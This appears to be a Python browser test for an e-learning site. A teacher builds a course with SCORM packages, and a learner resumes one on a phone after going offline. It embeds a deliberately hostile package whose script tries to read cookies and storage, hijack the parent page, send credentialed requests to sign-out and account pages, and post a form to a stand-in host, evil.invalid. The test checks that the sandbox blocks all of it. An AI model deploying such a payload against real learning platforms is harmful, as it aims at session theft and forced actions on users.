# SPDX-License-Identifier: MIT
"""Theo brings a learning package, Lena takes it on her phone and goes on where she left; what a hostile one tries comes to nothing."""

from __future__ import annotations

import json

from accessible import dark, faults
from people import type_password
from scorm import manifest, packed

HOSTILE = """<!doctype html><html><head><title>Trap</title></head><body><button id="tell">Tell</button><button id="go">Go</button><pre id="found"></pre><script>
const tries = {
  document: () => window.top.document.title, address: () => window.top.location.href, api: () => window.top.fetch.name, frame: () => String(frameElement.id),
  cookie: () => "cookie " + document.cookie, real: () => Object.getOwnPropertyDescriptor(Document.prototype, "cookie").get.call(document),
  storage: () => Object.getOwnPropertyDescriptor(Window.prototype, "localStorage").get.call(window).length, database: () => indexedDB.open("x").readyState,
  away: () => { window.top.location = "https://evil.invalid/"; return "went" }, window: () => String(window.open("https://evil.invalid/")),
};
const asks = {
  page: () => fetch("/account/"), cookies: () => fetch("/account/", { credentials: "include" }), elsewhere: () => fetch("https://evil.invalid/"),
  post: () => fetch("/sign-out", { method: "POST", credentials: "include" }), beacon: async () => navigator.sendBeacon("/sign-out") || Promise.reject("no"),
};
const found = {};
for (const [name, attempt] of Object.entries(tries)) { try { found[name] = attempt(); } catch (error) { found[name] = "refused"; } }
Promise.all(Object.entries(asks).map(async ([name, ask]) => { try { await ask(); found[name] = "sent"; } catch (error) { found[name] = "refused"; } })).then(() => {
  document.getElementById("found").textContent = JSON.stringify(found);
});
document.getElementById("tell").onclick = () => { for (const values of [{ status: "<img src=x>", memory: "x".repeat(9000) }, null, 5]) top.postMessage({ upart: "package", now: true, values }, "*"); };
document.getElementById("go").onclick = () => { document.forms[0].submit(); location.href = "https://evil.invalid/?found"; };
</script><form method="post" action="https://evil.invalid/"><input name="q" value="1"></form></body></html>"""


def bring(page, name: str, data: bytes, title: str) -> None:
    """A block with a package."""
    page.get_by_role("group", name="Add below").get_by_role("button", name="Learning package", exact=True).click()
    page.get_by_label("File", exact=True).set_input_files({"name": name, "mimeType": "application/zip", "buffer": data})
    page.get_by_role("button", name="Add it").click()
    if page.locator("#errors").count() == 0:
        page.locator(".blocks > li").last.get_by_label("Title").fill(title)


def written(page) -> str:
    """A course that whoever has its address sees, with a lesson of two packages; its address."""
    page.goto("/teach/courses/new")
    page.get_by_label("Title").fill("Knots for sailors")
    page.get_by_label("Subject").fill("Sailing")
    page.locator("main button.primary").click()
    home = page.url.split("?")[0].removesuffix("/outline")
    page.get_by_role("link", name="Add a lesson").click()
    page.get_by_label("Title").fill("Three knots")
    page.get_by_role("button", name="Save").click()
    bring(page, "notes.zip", packed(listed=manifest(version="2004 3rd Edition")), "")
    assert "SCORM 2004" in page.locator("#errors").inner_text()
    page.get_by_label("File", exact=True).set_input_files({"name": "knots.zip", "mimeType": "application/zip", "buffer": packed()})
    page.get_by_role("button", name="Add it").click()
    page.locator(".blocks > li").last.get_by_label("Title").fill("Knots to try")
    bring(page, "trap.zip", packed({"trap.html": HOSTILE}, listed=manifest({"Trap": "trap.html"})), "A trap")
    page.get_by_role("button", name="Save").last.click()
    assert faults(page) == []
    return home


def publish(page, home: str) -> None:
    """Let everybody enrol."""
    page.goto(home)
    page.get_by_role("link", name="Facts").first.click()
    page.get_by_label("Summary").fill("Three knots that hold.")
    page.get_by_role("button", name="Save").click()
    page.get_by_role("button", name="Publish").first.click()
    page.get_by_text("Published").first.wait_for()


def card(page, title: str):
    return page.locator(".package").filter(has_text=title)


def leave(page) -> None:
    page.get_by_role("link", name="Back to the lesson").click()
    page.wait_for_url("**/three-knots#*")


def take(page) -> None:
    """Lena begins, leaves, goes on where she was, and finishes."""
    inside = page.frame_locator("#package")
    card(page, "Knots to try").get_by_role("link").click()
    inside.get_by_text("Knot 1 of 3").wait_for()
    assert inside.locator("#how").inner_text() == "Learner|not attempted|"
    assert page.frames[1].evaluate("getComputedStyle(document.querySelector('h1')).color") == "rgb(0, 128, 128)"
    assert (page.evaluate("document.documentElement.scrollWidth"), faults(page), dark(page, only=())) == (390, [], [])
    inside.get_by_role("button", name="Next knot").click()
    leave(page)
    assert "where you left" in card(page, "Knots to try").inner_text()
    card(page, "Knots to try").get_by_role("link").click()
    inside.get_by_text("Knot 2 of 3").wait_for()
    assert inside.locator("#how").inner_text() == "Learner|incomplete|left at 2"
    page.context.set_offline(True)
    inside.get_by_role("button", name="Next knot").click()
    page.get_by_text("It is tried again by itself").wait_for()
    page.context.set_offline(False)
    page.get_by_text("Finished and saved").wait_for()
    assert not page.locator("#not-kept").is_visible()
    leave(page)
    assert "You have finished it" in card(page, "Knots to try").inner_text()


def resist(page) -> None:
    """A package that attacks finds nothing, reaches nothing, changes nothing."""
    asked, inside = [], page.frame_locator("#package")
    page.context.on("request", lambda request: asked.append(request.url))
    card(page, "A trap").get_by_role("link").click()
    inside.locator("#found").get_by_text("{").wait_for()
    found = json.loads(inside.locator("#found").inner_text())
    # A beacon does not tell its sender what came of it: whether it left is seen below, among all that the window asked for.
    assert (found.pop("cookie"), found.pop("window"), found.pop("beacon")) == ("cookie ", "null", "sent")
    assert {name: said for name, said in found.items() if said != "refused"} == {}
    inside.locator("#tell").click()
    page.get_by_text("something that cannot be kept").wait_for()
    address, itself = page.url, page.frames[1].url
    inside.locator("#go").click()
    page.wait_for_timeout(500)
    assert (page.url, len(page.context.pages)) == (address, 1)
    assert [url for url in asked if "evil" in url or "sign-out" in url or "/account" in url] == []
    page.goto(itself)
    assert page.url == address


def test_lena_takes_a_package_and_a_hostile_one_takes_nothing(browser, own_demo):
    _folder, port = own_demo
    home = f"http://athena.localhost:{port}"
    theo, lena = (browser.new_context(base_url=home, viewport={"width": wide, "height": 780}, reduced_motion="reduce").new_page() for wide in (1280, 390))
    type_password(theo, "theo")
    publish(theo, written(theo))

    type_password(lena, "lena")
    lena.goto("/courses/knots-for-sailors")
    lena.get_by_role("button", name="Enrol").first.click()
    lena.wait_for_url("**/learn/knots-for-sailors/three-knots")
    take(lena)
    resist(lena)
    lena.goto("/learn/knots-for-sailors/three-knots")
    assert lena.get_by_role("button", name="Mark done and go on").count() == 1, "one of two packages is not done"
    for page in (theo, lena):
        page.context.close()
